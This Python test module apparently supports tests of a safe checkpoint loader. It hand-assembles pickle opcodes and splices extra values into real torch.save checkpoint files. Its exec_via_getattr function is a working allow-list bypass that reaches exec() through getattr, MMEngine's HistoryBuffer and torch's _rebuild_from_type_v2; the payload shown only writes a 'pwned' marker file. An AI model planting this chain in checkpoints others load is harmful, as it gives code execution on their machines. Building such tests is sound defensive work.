"""Hand-assembled pickles (raw protocol-2 opcodes) for the loader tests.

Each builder returns the opcodes that push one value; ``pickle_of`` wraps
them into a complete pickle and ``splice`` puts a value into a real
``torch.save`` zip as an extra top-level key, next to real tensors.
"""
import struct
import zipfile

PROTO, STOP = b'\x80\x02', b'.'
MARK, TUPLE, REDUCE, BUILD, NEWOBJ = b'(', b't', b'R', b'b', b'\x81'
NONE, TRUE, FALSE = b'N', b'\x88', b'\x89'
EMPTY_DICT, EMPTY_LIST, SETITEM, APPEND = b'}', b']', b's', b'a'


def glob(module: str, name: str) -> bytes:
    return b'c' + module.encode() + b'\n' + name.encode() + b'\n'


def s(text: str) -> bytes:
    raw = text.encode('utf-8')
    return b'X' + struct.pack('<I', len(raw)) + raw


def i(value: int) -> bytes:
    if -2**31 <= value < 2**31:
        return b'J' + struct.pack('<i', value)
    raw = value.to_bytes((value.bit_length() + 8) // 8, 'little',
                         signed=True)
    return b'\x8a' + bytes([len(raw)]) + raw  # LONG1


def tup(*items: bytes) -> bytes:
    return MARK + b''.join(items) + TUPLE


def call(func: bytes, *args: bytes) -> bytes:
    return func + tup(*args) + REDUCE


def raw_bytes(data: bytes) -> bytes:
    """bytes the way numpy pickles them: _codecs.encode(str, 'latin1')."""
    return call(glob('_codecs', 'encode'), s(data.decode('latin1')),
                s('latin1'))


def dict_of(**items: bytes) -> bytes:
    out = EMPTY_DICT
    for key, value in items.items():
        out += s(key) + value + SETITEM
    return out


def pickle_of(value: bytes) -> bytes:
    return PROTO + value + STOP


# --------------------------------------------------------------------------
# globals as MMEngine / numpy pickle them
# --------------------------------------------------------------------------
GETATTR = glob('builtins', 'getattr')
HISTORY_BUFFER = glob('mmengine.logging.history_buffer', 'HistoryBuffer')
REBUILD_FROM_TYPE = glob('torch._tensor', '_rebuild_from_type_v2')
NP_DTYPE = glob('numpy', 'dtype')
NP_NDARRAY = glob('numpy', 'ndarray')
NP_RECONSTRUCT = glob('numpy.core.multiarray', '_reconstruct')
NP_SCALAR = glob('numpy.core.multiarray', 'scalar')


def dtype(spec: str, state: bytes = None) -> bytes:
    state = state or tup(i(3), s('<'), NONE, NONE, NONE, i(-1), i(-1), i(0))
    return call(NP_DTYPE, s(spec), FALSE, TRUE) + state + BUILD


def ndarray(shape, dtype_ops: bytes, data: bytes, state: bytes = None
            ) -> bytes:
    head = call(NP_RECONSTRUCT, NP_NDARRAY, tup(i(0)), raw_bytes(b'b'))
    state = state or tup(i(1), tup(*map(i, shape)), dtype_ops, FALSE,
                         raw_bytes(data))
    return head + state + BUILD


def exec_via_getattr(code: str) -> bytes:
    """Runs ``exec(code)`` with only getattr, HistoryBuffer and torch's own
    allow-list: the function ``__builtins__`` of ``HistoryBuffer.__init__``
    gives ``exec``, torch's ``_rebuild_from_type_v2`` calls it."""
    builtins_dict = call(GETATTR, call(GETATTR, HISTORY_BUFFER, s('__init__')),
                         s('__builtins__'))
    dict_get = call(GETATTR, builtins_dict, s('get'))
    builtin_type = call(GETATTR, GETATTR, s('__class__'))
    exec_fn = call(REBUILD_FROM_TYPE, dict_get, builtin_type, tup(s('exec')),
                   NONE)
    none_type = call(GETATTR, NONE, s('__class__'))
    return call(REBUILD_FROM_TYPE, exec_fn, none_type, tup(s(code)), NONE)


def marker_code(marker: str) -> str:
    return f'open({marker!r}, "w").write("pwned")'


def splice(real_checkpoint: str, out: str, key: str, value: bytes) -> None:
    """Copy a torch.save zip, adding ``key: value`` to its top-level dict."""
    with zipfile.ZipFile(real_checkpoint) as src, \
            zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                assert data.endswith(STOP)
                # the memo indices of the original are left untouched: the
                # added opcodes use no memo
                data = data[:-1] + s(key) + value + SETITEM + STOP
            dst.writestr(info, data)


class DictWithState(dict):
    """Pickled by ``torch.save`` as ``cls()``, its items, then BUILD with
    ``state``: what the unpickler does for an ``OrderedDict`` or
    ``Counter``, whose BUILD sets instance attributes."""

    def __init__(self, cls, items: dict, state: dict):
        super().__init__(items)
        self.cls, self.state = cls, state

    def __reduce_ex__(self, protocol):
        return self.cls, (), self.state, None, iter(dict.items(self))
